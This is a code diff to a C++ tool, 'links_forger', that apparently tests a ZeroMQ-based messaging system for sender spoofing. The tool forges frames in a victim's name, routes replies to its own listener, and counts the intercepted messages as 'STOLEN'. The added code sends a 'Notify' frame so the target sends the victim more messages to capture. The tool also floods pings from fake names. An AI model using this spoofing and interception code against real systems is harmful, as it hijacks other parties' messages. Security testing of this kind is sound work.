@@ -2,8 +2,9 @@
 //
 //   links_forger redirect TARGET VICTIM SECONDS
 //       one "Data" frame to TARGET claiming to come from VICTIM, with our
-//       own listener as its reply address; then counts, for SECONDS, what
-//       arrives there: "STOLEN <n>" (what TARGET meant for VICTIM).
+//       own listener as its reply address, then (as ourselves) "Notify"
+//       (text VICTIM, int 5): TARGET sends 5 messages to VICTIM.  Counts,
+//       for SECONDS, what arrives at our listener: "STOLEN <n>".
 //   links_forger pings TARGET COUNT
 //       COUNT cm:ping frames to TARGET, each from another made-up name whose
 //       reply address nobody answers; prints "SENT <n>".
@@ -77,6 +78,14 @@ int main(int argc, char** argv) {
     env.seq = 1000000;
     if (!send(env, data)) return 6;
     std::printf("FORGED as %s\n", argv[3]);
+    Message notify;
+    notify.SetType("Notify");
+    notify.PutText(argv[3]);
+    notify.PutInt(5);
+    std::string self = "forger-" + std::to_string(getpid());
+    env.sender = self;
+    env.seq = 1;
+    if (!send(env, notify)) return 7;
     std::fflush(stdout);
     in.set(zmq::sockopt::rcvtimeo, 100);
     auto end = std::chrono::steady_clock::now() + std::chrono::duration<double>(std::atof(argv[4]));
